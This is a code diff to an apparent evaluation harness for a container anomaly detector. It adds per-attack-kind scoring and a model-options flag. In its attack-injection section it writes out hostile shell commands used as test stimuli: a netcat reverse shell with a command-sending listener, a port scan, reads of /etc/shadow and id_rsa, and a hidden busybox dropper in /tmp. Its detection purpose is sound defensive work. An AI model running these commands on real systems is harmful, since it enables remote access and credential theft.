@@ -19,11 +19,12 @@
  *    every 1 s). After the learning phase (--learn, default 210 s) and --pre seconds of normal
  *    work, each round injects, one after another with --gap seconds between them, with
  *    `docker exec` (each bounded by `timeout`, about --attack seconds):
- *      reverse_shell  client1: nc to sink1:4444 -e /bin/sh; the sink sends id, ls, cat, uname, ps
+ *      reverse_shell  client1: nc to sink1:4444 -e /bin/sh; the sink sends a command every 0.7 s
+ *                     (id, ls, cat, uname, ps, hostname...)
  *      port_scan      client2: nc -w 1 to ports 1-3000 of web2 (until the timeout)
  *      cpu_burn       batch1: a busy shell loop
  *      host_secrets   web1: cat of the secrets in /hostshare and of /etc/shadow, every 0.4 s
- *      dropper        web2: copies busybox to /tmp/.x and runs it 10 times
+ *      dropper        web2: copies busybox to /tmp/.x, runs it 10 times, removes it
  *      syscall_burst  batch1: unshare -u, sync, ionice, chroot, setpriv 30 times
  *      fork_storm     idle1: 300 background sleeps
  * 3. Offline, on the recording: the same records replayed (src/anomaly/offline.ts replay) through
@@ -77,6 +78,8 @@ const P = {
   fineWindow: 1,
 };
 const keepDir = opt('keep', null);
+/** --model JSON: model options applied to every variant (experiments), e.g. '{"rangeMargin": 3}'. */
+const EXTRA_MODEL = JSON.parse(opt('model', '{}'));
 const replayDir = opt('replay', null);
 const started = Date.now();
 const log = (m) => process.stdout.write(`[${((Date.now() - started) / 1000).toFixed(0).padStart(4)} s] ${m}\n`);
@@ -218,7 +221,8 @@ anomaly:
     run(names.client2, images.client, client(web2));
     run(names.batch1, images.batch, `end=$(( $(date +%s) + ${total} )); while [ $(date +%s) -lt $end ]; do tar czf /tmp/a.tgz /bin /etc 2>/dev/null; md5sum /tmp/a.tgz > /dev/null; sort /etc/passwd > /dev/null; rm -f /tmp/a.tgz; sleep 8; done`);
     run(names.idle1, images.idle, `exec sleep ${total}`);
-    run(names.sink1, images.sink, `printf '#!/bin/sh\\nprintf "id\\\\nls /\\\\ncat /etc/passwd\\\\nuname -a\\\\nps\\\\n"; sleep 4\\n' > /cmds.sh; chmod +x /cmds.sh; exec timeout ${total} nc -ll -p 4444 -e /cmds.sh`);
+    // The attacker's side: a command every 0.7 s, as someone typing into the shell.
+    run(names.sink1, images.sink, `printf '#!/bin/sh\\nfor c in id "ls /" "cat /etc/passwd" "uname -a" ps "ls /etc" "cat /etc/group" hostname "ls /tmp" id; do echo "$c"; sleep 0.7; done\\n' > /cmds.sh; chmod +x /cmds.sh; exec timeout ${total} nc -ll -p 4444 -e /cmds.sh`);
     const sink = ip(names.sink1);
     log(`containers up (suffix ${sfx}); learning ${P.learn} s`);
     await sleep(P.learn);
@@ -231,7 +235,7 @@ anomaly:
       ['port_scan', 'client2', `timeout ${A} sh -c 'p=1; while [ $p -le 3000 ]; do nc -w 1 ${web2} $p </dev/null >/dev/null 2>&1; p=$((p+1)); done'`],
       ['cpu_burn', 'batch1', `timeout ${A} sh -c 'while :; do :; done'`],
       ['host_secrets', 'web1', `timeout ${A} sh -c 'while :; do cat /hostshare/secret.txt /hostshare/id_rsa >/dev/null; cat /etc/shadow >/dev/null 2>&1; sleep 0.4; done'`],
-      ['dropper', 'web2', `timeout ${A} sh -c 'cp /bin/busybox /tmp/.x; i=0; while [ $i -lt 10 ]; do /tmp/.x uname -a >/dev/null; sleep 0.7; i=$((i+1)); done'`],
+      ['dropper', 'web2', `timeout ${A} sh -c 'cp /bin/busybox /tmp/.x; i=0; while [ $i -lt 10 ]; do /tmp/.x uname -a >/dev/null; sleep 0.7; i=$((i+1)); done; rm -f /tmp/.x'`],
       ['syscall_burst', 'batch1', `timeout ${A} sh -c 'i=0; while [ $i -lt 30 ]; do unshare -u true 2>/dev/null; sync; ionice -c 3 true 2>/dev/null; chroot / true 2>/dev/null; setpriv --dump >/dev/null 2>&1; sleep 0.2; i=$((i+1)); done'`],
       ['fork_storm', 'idle1', `timeout ${A} sh -c 'i=0; while [ $i -lt 300 ]; do sleep 5 & i=$((i+1)); done; wait'`],
     ];
@@ -278,7 +282,7 @@ function detectorFor(v, learnEndMs) {
     threshold: P.threshold,
     retrainWindows: 0,
     adaptive: { enabled: !!v.adaptive, minWindowSeconds: P.fineWindow, band: a.adaptive_period.band, relaxWindows: a.adaptive_period.relax_windows },
-    model: { ...DEFAULT_MODEL_OPTIONS, damping: !!v.damping, weighted: !!v.weighted, modifiedPath: !!v.modifiedPath },
+    model: { ...DEFAULT_MODEL_OPTIONS, ...EXTRA_MODEL, damping: !!v.damping, weighted: !!v.weighted, modifiedPath: !!v.modifiedPath },
   });
 }
 
@@ -327,6 +331,8 @@ function evaluate(records, meta) {
     const scores = [];
     const labels = [];
     let tp = 0, fp = 0, fn = 0, tn = 0;
+    const kindOf = (w) => (attacksOf.get(w.id) ?? []).find((a) => w.startMs < a.endMs + 1000 && w.endMs > a.startMs)?.kind;
+    const perKind = {}; // attack kind -> [alarmed windows, windows]
     const heldBy = new Map(); // variant window -> labels of its fine windows
     for (const w of fine) {
       const list = byId.get(w.id) ?? [];
@@ -338,7 +344,13 @@ function evaluate(records, meta) {
       const alarm = r.score >= P.threshold;
       scores.push(r.score);
       labels.push(w.label === 'attack');
-      if (w.label === 'attack') alarm ? tp++ : fn++;
+      if (w.label === 'attack') {
+        alarm ? tp++ : fn++;
+        const k = kindOf(w);
+        perKind[k] ??= [0, 0];
+        perKind[k][0] += alarm ? 1 : 0;
+        perKind[k][1]++;
+      }
       else alarm ? fp++ : tn++;
     }
     let falseAlarms = 0;
@@ -361,7 +373,7 @@ function evaluate(records, meta) {
       const hit = fine.some((w) => w.id === id && w.label === 'attack' && w.startMs < a.endMs + 1000 && w.endMs > a.startMs && (byId.get(id) ?? []).find((x) => x.summary.endMs >= w.endMs - 1)?.score >= P.threshold);
       detected[a.kind] = (detected[a.kind] ?? 0) + (hit ? 1 : 0);
     }
-    rows.push({ name, precision, recall, f1, auc: rocAuc(scores, labels), falseAlarms, falseAlarmsPerContainerHour: normalHours ? falseAlarms / normalHours : NaN, normalContainerHours: normalHours, attackWindows: tp + fn, normalWindows: fp + tn, scoreMicros: micros, detected, falseAlarmDetail: falseAlarmDetail.slice(0, 10) });
+    rows.push({ name, precision, recall, f1, auc: rocAuc(scores, labels), falseAlarms, falseAlarmsPerContainerHour: normalHours ? falseAlarms / normalHours : NaN, normalContainerHours: normalHours, attackWindows: tp + fn, normalWindows: fp + tn, scoreMicros: micros, detected, perKind, falseAlarmDetail: falseAlarmDetail.slice(0, 10) });
   }
   return rows;
 }
@@ -387,6 +399,8 @@ function table(rows, ref, meta) {
   lines.push(`attack windows ${all.attackWindows}, normal windows ${all.normalWindows} (1 s windows, ${f(all.normalContainerHours, 2)} normal container-hours); threshold ${P.threshold}; attacks: ${meta.attacks.length}`);
   lines.push(`attacks detected (all together): ${Object.entries(all.detected).map(([k, v]) => `${k} ${v}/${meta.attacks.filter((a) => a.kind === k).length}`).join(', ')}`);
   lines.push(`attacks detected (vanilla): ${Object.entries(van.detected).map(([k, v]) => `${k} ${v}/${meta.attacks.filter((a) => a.kind === k).length}`).join(', ')}`);
+  lines.push(`attack windows alarmed (all together): ${Object.entries(all.perKind).map(([k, [a, n]]) => `${k} ${a}/${n}`).join(', ')}`);
+  lines.push(`attack windows alarmed (vanilla): ${Object.entries(van.perKind).map(([k, [a, n]]) => `${k} ${a}/${n}`).join(', ')}`);
   for (const [text, ok] of checks) lines.push(`${ok ? 'PASS' : 'FAIL'}  ${text}`);
   return { text: lines.join('\n'), pass: checks.every((c) => c[1]) };
 }
